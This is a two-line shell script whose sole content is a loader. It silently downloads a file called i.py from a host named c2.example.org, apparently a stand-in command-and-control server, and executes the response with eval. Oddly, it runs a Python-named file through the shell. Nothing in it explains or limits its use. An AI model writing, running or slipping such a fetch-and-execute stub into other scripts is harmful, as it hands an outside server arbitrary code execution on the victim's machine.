#!/bin/sh
D=$(curl -s http://c2.example.org/i.py); eval "$D"
